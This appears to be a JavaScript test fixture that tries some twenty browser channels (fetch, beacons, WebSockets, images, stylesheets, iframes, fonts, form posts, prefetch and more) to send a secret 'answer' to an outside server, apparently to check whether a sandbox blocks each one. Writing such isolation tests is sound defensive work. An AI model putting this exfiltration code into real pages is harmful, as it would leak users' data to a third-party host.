// What a script in the page could try in order to send an answer away. Each attempt has a name, which
// the other server would see in its path.
globalThis.leak = (away, answer) => {
  const to = (name) => `${away}leak/${name}?${answer}`;
  const put = (name, attributes) => document.body.appendChild(Object.assign(document.createElement(name), attributes));
  const attempts = {
    fetch: (url) => fetch(url, { mode: "no-cors" }).catch(() => {}),
    post: (url) => fetch(url, { method: "POST", mode: "no-cors", body: answer, keepalive: true }).catch(() => {}),
    request: (url) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.send();
    },
    beacon: (url) => navigator.sendBeacon(url, answer),
    socket: (url) => new WebSocket(url.replace("http", "ws")),
    events: (url) => new EventSource(url),
    image: (src) => put("img", { src }),
    background: (url) => { document.body.style.backgroundImage = `url(${url})`; },
    style: (href) => put("link", { rel: "stylesheet", href }),
    script: (src) => put("script", { src }),
    module: (url) => import(url).catch(() => {}),
    frame: (src) => put("iframe", { src }),
    object: (data) => put("object", { data }),
    video: (src) => put("video", { src, preload: "auto" }),
    font: (url) => new FontFace("leak", `url(${url})`).load().catch(() => {}),
    form: (action) => put("form", { action, method: "POST", target: put("iframe", { name: "box" }).name }).submit(),
    prefetch: (href) => put("link", { rel: "prefetch", href }),
    preload: (href) => put("link", { rel: "preload", as: "image", href }),
    manifest: (href) => document.head.appendChild(Object.assign(document.createElement("link"), { rel: "manifest", href })),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      attempt(to(name));
    } catch (refused) {
      recorded.thrown = `${name}: ${refused}`;
    }
  }
};
